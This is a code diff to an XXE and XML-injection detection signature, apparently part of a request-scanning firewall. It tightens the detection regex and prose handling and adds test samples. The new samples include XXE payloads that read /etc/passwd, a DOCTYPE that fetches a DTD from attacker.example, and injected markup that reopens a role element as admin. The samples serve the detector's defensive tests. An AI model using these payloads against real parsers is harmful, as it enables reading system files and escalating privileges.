@@ -5,15 +5,17 @@ import type { Leaf } from '../request/leaf.ts';
 import type { Finding, Signature } from '../signature.ts';
 import { findEntityAttack } from '../xml/entity-attack.ts';
 import { findInclusion } from '../xml/inclusion-attack.ts';
-import { reopenedElement, splitMarkup } from '../xml/split-markup.ts';
+import { reopenedElement, reopenedSection, splitMarkup } from '../xml/split-markup.ts';
 import { undeclaredEntity } from '../xml/undeclared-entity.ts';
 
 const OPENING = marksOf('<');
 /** Of a declaration, a prefix, a processing instruction, a reference or an end tag. */
 const FURTHER_MARKS = marksOf('!:?&/');
 const LEAST_ARTICLE = 400;
+/** Of a finding that points nowhere outside. */
+const MOST_OF_PROBE = 0.65;
 const LONGEST_ELEMENT = 512;
-const DECLARATION = /<!(?:doctype|entity)[\s\u0085%&:]/;
+const DECLARATION = /<!\s{0,4}(?:doctype|entity)[\s\u0085%&:]/;
 /** A document by its own start, also as the address of an image that holds it. */
 const DOCUMENT = /^\s{0,16}(?:data:[a-z/+;=-]{0,40},\s{0,8})?<(?:\?xml|svg)\b/;
 /** A value whose first element declares a namespace; Word does so in the HTML that it puts on the clipboard. */
@@ -54,6 +56,11 @@ export const xxe: Signature = {
       '<?xml-model href="//attacker.example/x.rng"?><r/>',
       { contentType: 'text/xml', body: '<ds:RetrievalMethod URI="file:///etc/passwd"/>' },
       'ann@example.org</mail><role>admin</role><mail>bo@example.org',
+      '1</price><price>0',
+      'ann</secret><!--',
+      'x]]><role>admin</role><![CDATA[',
+      '<! DOCTYPE r [<! ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+      '<!DOCTYPE r SYSTEM "attacker.example/x.dtd"><r/>',
       '<name><![CDATA[<]]>b<![CDATA[>]]>x<![CDATA[</]]>b<![CDATA[>]]></name>',
     ],
     misses: [
@@ -87,6 +94,8 @@ export const xxe: Signature = {
         body: '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><a/></soap:Body></soap:Envelope>',
       },
       'first</p><p>second <b>and</b></p><p>third',
+      'first</x-card><x-card>second',
+      'if (a[b[0]]>c) text = "<![CDATA[x]]>";',
       '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h24v24H0z"/></svg>',
       '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
     ],
@@ -101,10 +110,14 @@ export const xxe: Signature = {
     const inclusion = findInclusion(text, lower, isDocument);
     if (inclusion !== null && inclusion.confidence > (entity?.confidence ?? 0)) return inclusion;
     if (entity !== null) return entity;
-    const injected = splitMarkup(lower) ?? (leaf.part === 'value' ? reopenedElement(lower) : null);
+    const injected = splitMarkup(lower) ?? (leaf.part === 'value' ? reopened(lower) : null);
     return injected ?? (isDocument || isElement(lower) ? undeclaredEntity(lower) : null);
   },
 };
+
+function reopened(lower: string): Finding | null {
+  return reopenedElement(lower) ?? reopenedSection(lower);
+}
 
 /** One element of no language of browsers, which have more entities of their own. */
 function isElement(lower: string): boolean {
@@ -113,8 +126,10 @@ function isElement(lower: string): boolean {
   return name !== undefined && !HTML_ELEMENTS.has(name);
 }
 
-/** In an article or a letter about such attacks a declaration is a quotation. */
+/** In an article or a letter about such attacks a declaration is a quotation; one that reads nothing is a lesson. */
 function inProse(leaf: Leaf, text: string, finding: Finding | null): Finding | null {
-  if (finding === null || leaf.kind === 'xml' || text.length < LEAST_ARTICLE || proseShare(text) < 0.4) return finding;
+  if (finding === null || leaf.kind === 'xml') return finding;
+  if (finding.confidence <= MOST_OF_PROBE) return proseShare(text) < 0.4 ? finding : null;
+  if (text.length < LEAST_ARTICLE || proseShare(text) < 0.4) return finding;
   return { ...finding, confidence: Math.min(finding.confidence, 0.55) };
 }
